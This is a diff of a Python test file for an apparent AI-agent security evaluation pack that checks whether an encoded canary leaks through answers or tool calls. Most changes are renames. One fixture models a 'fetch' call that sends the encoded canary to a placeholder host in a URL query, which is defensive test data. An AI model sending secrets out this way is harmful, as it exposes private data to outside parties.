@@ -7,8 +7,8 @@ import base64
 import pytest
 
 from security_pack.catalog.conditions import Condition
-from security_pack.episodes.episode import Episode, Fate, SeenCall
-from security_pack.predicates.evaluation import Hearing, evaluate
+from security_pack.episodes.episode import CallStatus, Episode, SeenCall
+from security_pack.predicates.evaluation import PredicateContext, evaluate
 from tests.security_pack.made import CANARY, ask, call, did, probe, truth
 
 OUTPUT = {"output_contains": CANARY}
@@ -43,9 +43,13 @@ def test_a_disguised_canary_is_found_in_the_answer() -> None:
 def test_a_disguised_canary_is_found_in_what_left_by_a_call() -> None:
     sent = call("fetch", url=f"https://x.invalid/?q={CODED}")
     assert truth(DECODED, did(sent, output="done")) is True
-    assert truth(DECODED, did(call("fetch", Fate.REFUSED, url=CODED), output="done")) is False
-    assert truth(DECODED, did(call("fetch", Fate.REFUSED, url=CODED), output="done"), tried=True) is True
-    assert truth(DECODED, did(SeenCall("fetch", None, f"{{{CODED}", Fate.EXECUTED), output="done")) is True
+    assert truth(DECODED, did(call("fetch", CallStatus.REFUSED, url=CODED), output="done")) is False
+    assert (
+        truth(DECODED, did(call("fetch", CallStatus.REFUSED, url=CODED), output="done"), tried=True) is True
+    )
+    assert (
+        truth(DECODED, did(SeenCall("fetch", None, f"{{{CODED}", CallStatus.EXECUTED), output="done")) is True
+    )
 
 
 def test_personal_data_counts_unless_the_user_gave_it() -> None:
@@ -102,6 +106,6 @@ def test_a_sink_is_asked_about_the_text_that_reaches_it(
     sink: object, episode: Episode, expected: bool | None, asked: list[tuple[str, ...]]
 ) -> None:
     sinks = Listed()
-    hearing = Hearing(probe({"steps_gt": 1}), episode, sinks)
+    hearing = PredicateContext(probe({"steps_gt": 1}), episode, sinks)
     assert evaluate(Condition.model_validate({"sink": sink}), hearing).truth is expected
     assert sinks.asked == asked
